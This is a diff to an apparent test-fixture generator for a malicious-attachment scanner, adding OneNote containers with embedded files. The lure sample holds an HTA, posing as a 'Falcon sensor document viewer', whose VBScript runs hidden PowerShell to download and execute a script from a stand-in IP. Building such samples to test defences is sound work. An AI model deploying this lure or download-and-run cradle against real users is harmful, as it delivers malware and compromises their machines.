@@ -15,6 +15,7 @@ import argparse
 import base64
 import io
 import os
+import struct
 import subprocess
 import sys
 import tempfile
@@ -154,6 +155,29 @@ def mail_with_attachment(subject: str, body: str, name: str, data: bytes) -> byt
             f"{b64}--b1--\r\n").encode()
 
 
+ONENOTE_HEADER = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")  # the .one file format GUID
+FILE_DATA_HEADER = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
+FILE_DATA_FOOTER = bytes.fromhex("22a7fb71790f0b4abb13899256426b24")
+OPEN_HTA = ("<html><head><title>Falcon sensor document viewer</title>\r\n"
+            f"<!-- {MARK} -->\r\n"
+            '<script language="VBScript">\r\n'
+            'Set sh = CreateObject("WScript.Shell")\r\n'
+            'sh.Run "powershell -w hidden -c ""iwr http://203.0.113.7/falcon/fix.ps1 -UseBasicParsing | iex""", 0\r\n'
+            "window.close\r\n"
+            "</script></head><body>Loading document...</body></html>\r\n").encode()
+
+
+def onenote(files: list[bytes]) -> bytes:
+    """A minimal stand-in for a OneNote section: the file-format GUID, a zeroed header, then one
+    FileDataStoreObject (MS-ONESTORE 2.6.13) per embedded file.  Not a section OneNote itself would
+    open (no page tree), but byte for byte what the extractor and the lure waves' files share."""
+    out = bytearray(ONENOTE_HEADER + bytes(1024 - 16))
+    for data in files:
+        out += FILE_DATA_HEADER + struct.pack("<Q", len(data)) + bytes(12) + data + bytes(-len(data) % 8)
+        out += FILE_DATA_FOOTER
+    return bytes(out)
+
+
 def build() -> dict[str, bytes]:
     s: dict[str, bytes] = {}
     hotfix_rar = rar5([("hotfix/install.ps1", CRADLE), ("hotfix/README.txt", README)])
@@ -181,6 +205,10 @@ def build() -> dict[str, bytes]:
         "Q3 budget", f"Hi team,\r\n\r\nthe Q3 budget is attached, password-protected as usual.\r\n"
         f"Password: Budget-2024\r\n\r\nDana\r\n({MARK})", "Q3_budget.xlsx", encrypt_ooxml(budget, "Budget-2024"))
     s["bad/containers/encrypted_unknown_password.xlsx"] = encrypt_ooxml(budget, "nobody-knows-7731")
+    falcon_one = onenote([PIXEL_PNG, OPEN_HTA])
+    s["lures/containers/falcon_hotfix_notes.one"] = falcon_one
+    s["clean/containers/team_meeting_notes.one"] = onenote([PIXEL_PNG, DRIVER_INF])
+    s["bad/containers/truncated.one"] = falcon_one[: len(falcon_one) - 200]
     s["bad/containers/truncated.rar"] = hotfix_rar[: len(hotfix_rar) // 2]
     s["bad/containers/truncated.cab"] = hotfix_cab[:60]
     return s
